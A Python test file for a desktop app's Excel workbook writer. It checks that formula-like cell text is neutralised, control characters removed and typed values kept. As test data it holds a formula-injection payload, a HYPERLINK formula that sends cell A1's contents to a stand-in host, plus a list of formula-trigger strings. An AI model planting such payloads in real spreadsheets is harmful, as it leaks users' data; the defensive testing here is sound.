"""The one workbook writer (documents/workbook.py): text that looks like a formula cannot
run, illegal control characters go, numbers and dates stay typed, nothing is left in the
system temp folder; and both workbooks of a package go through it."""

from __future__ import annotations

import datetime as dt
import io
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest

from jianshi_desktop.db import models
from jianshi_desktop.documents import workbook
from jianshi_desktop.documents.workbook import (
    append,
    is_formula_like,
    new_workbook,
    put,
    safe_text,
    save_workbook,
    unguard_text,
)
from jianshi_desktop.domain.periods import parse_period
from jianshi_desktop.errors import UserError
from jianshi_desktop.services import demo, roster
from jianshi_desktop.services.store import Store
from jianshi_desktop.submission.package import PackageOptions, build_package
from jianshi_desktop.submission.workbooks import compliance_workbook

TODAY = dt.date(2026, 11, 26)
HOSTILE = '=HYPERLINK("http://example.com/?q="&A1,"点我")'

RUNNABLE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\tplain",
    "\rplain",
    "\x01=1+1",
    " =cmd",
    "\u3000=cmd",
    "\n\x02 +1",
    "＝1+1",
    "-",
    HOSTILE,
]
PLAIN = ["张三", "1+1", "a=1", "13812345678", "第一党小组", "'already quoted", "", " "]


@pytest.mark.parametrize("text", RUNNABLE)
def test_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(workbook.ILLEGAL_CHARACTERS.sub("", text))
    safe = safe_text(text)
    assert safe.startswith("'")
    assert not workbook.ILLEGAL_CHARACTERS.search(safe)
    assert unguard_text(safe) == workbook.ILLEGAL_CHARACTERS.sub("", text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_written_as_it_is(text: str) -> None:
    assert safe_text(text) == text
    assert unguard_text(text) == text


def test_cells_read_back_as_text_numbers_and_dates(tmp_path: Path) -> None:
    book = new_workbook()
    sheet = book.active
    for row, text in enumerate(RUNNABLE, start=1):
        put(sheet, row, 1, text)
    put(sheet, 1, 2, 42)
    put(sheet, 2, 2, -3.5)
    put(sheet, 3, 2, dt.date(2026, 7, 1))
    put(sheet, 4, 2, dt.datetime(2026, 7, 1, 0, 0))
    put(sheet, 5, 2, "bell\x07 inside")
    put(sheet, 6, 2, None)
    path = tmp_path / "cells.xlsx"
    save_workbook(book, path)
    read = openpyxl.load_workbook(path).active
    for row, text in enumerate(RUNNABLE, start=1):
        cell = read.cell(row=row, column=1)
        assert cell.data_type == "s", text
        assert isinstance(cell.value, str) and cell.value.startswith("'"), text
    formulas = openpyxl.load_workbook(path, data_only=False).active
    assert all(c.data_type != "f" for r in formulas.iter_rows() for c in r)
    assert read["B1"].value == 42 and read["B1"].data_type == "n"
    assert read["B2"].value == -3.5
    assert read["B3"].value == dt.datetime(2026, 7, 1) and read["B3"].is_date
    assert read["B3"].number_format == "yyyy-mm-dd"
    assert read["B4"].value == dt.datetime(2026, 7, 1)
    assert read["B5"].value == "bell inside"
    assert read["B6"].value is None
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml


def test_append_starts_at_the_top_and_goes_down(tmp_path: Path) -> None:
    book = new_workbook()
    sheet = book.active
    assert append(sheet, ["标题"]) == 1
    assert append(sheet, ["=a", 1]) == 2
    assert sheet["A2"].value == "'=a" and sheet["B2"].value == 1


def test_saving_uses_no_temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl.worksheet._writer as sheet_writer

    def refused(*args: object, **kwargs: object) -> None:
        raise AssertionError("a sheet went through a temporary file")

    monkeypatch.setattr(sheet_writer, "create_temporary_file", refused)
    book = new_workbook()
    put(book.active, 1, 1, "张三")
    save_workbook(book, tmp_path / "a.xlsx")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active["A1"].value == "张三"
    assert [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_failed_save_leaves_the_old_file_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "old.xlsx"
    target.write_bytes(b"before")

    def broken(book: object, path: Path) -> None:
        Path(path).write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook, "_write_xlsx", broken)
    with pytest.raises(UserError, match="无法写入"):
        save_workbook(new_workbook(), target)
    assert target.read_bytes() == b"before"
    assert [p.name for p in tmp_path.iterdir()] == ["old.xlsx"]


def test_a_name_without_xlsx_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"\.xlsx"):
        save_workbook(new_workbook(), tmp_path / "a.xls")


def test_the_compliance_workbook_writes_a_hostile_group_as_text(tmp_path: Path) -> None:
    row = {
        "obligation": "党小组会",
        "period": "2026年7月",
        "subject": HOSTILE,
        "required": 1,
        "done": 0,
        "late_entries": 0,
        "state_label": "未完成",
        "source": "@依据",
    }
    path = tmp_path / "完成情况.xlsx"
    compliance_workbook([row], path, "=标题")
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A1"].value == "'=标题"
    assert [c.value for c in sheet[3]] == [
        "党小组会", "2026年7月", "'" + HOSTILE, 1, 0, 0, "未完成", "'@依据",
    ]  # fmt: skip
    assert sheet["C3"].data_type == "s" and sheet["D3"].data_type == "n"


@pytest.fixture
def branch(store: Store) -> Store:
    demo.fill_demo(today=TODAY)
    group = models.PartyGroup.select().order_by(models.PartyGroup.id).first()
    group.name = HOSTILE
    group.save()
    return store


def _texts(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [c for r in sheet.iter_rows() for c in r if c.value is not None]


def test_a_hostile_group_name_is_plain_text_in_both_package_workbooks(
    branch: Store, tmp_path: Path
) -> None:
    target = tmp_path / "stick"
    target.mkdir()
    path = build_package(
        branch.data, parse_period("2026-07"), target, PackageOptions(), today=TODAY
    ).path
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        compliance = next(n for n in names if n.endswith("工作要求完成情况.xlsx"))
        books = {
            "compliance": archive.read(compliance),
            "roster": archive.read("数据/党员花名册.xlsx"),
        }
    for which, data in books.items():
        cells = _texts(data)
        hostile = [c for c in cells if isinstance(c.value, str) and HOSTILE in c.value]
        assert hostile, f"the group is in the {which} workbook"
        for cell in hostile:
            assert cell.value == "'" + HOSTILE and cell.data_type == "s", which
        assert all(c.data_type != "f" for c in cells), which


def test_the_secretarys_export_of_a_hostile_group_imports_back_unchanged(
    branch: Store, tmp_path: Path
) -> None:
    out = tmp_path / "own.xlsx"
    count = roster.export_roster(out, today=TODAY)
    again = roster.preview_import(out, today=TODAY)
    assert again.counts() == {"new": 0, "update": 0, "unchanged": count, "problem": 0}


def test_exporting_the_roster_leaves_nothing_in_the_system_temp_folder(
    branch: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    import openpyxl.worksheet._writer as sheet_writer

    created: list[str] = []
    original = sheet_writer.create_temporary_file

    def watched(suffix: str = "") -> str:
        name = original(suffix)
        created.append(name)
        return name

    monkeypatch.setattr(sheet_writer, "create_temporary_file", watched)
    out = tmp_path / "out"
    out.mkdir()
    roster.export_roster(out / "masked.xlsx", mask_ids=True, today=TODAY)
    roster.export_roster(out / "full.xlsx", today=TODAY)
    assert list(system_temp.iterdir()) == []
    assert created == [], "no sheet was written to a temporary file on the way"
    assert sorted(p.name for p in out.iterdir()) == ["full.xlsx", "masked.xlsx"]
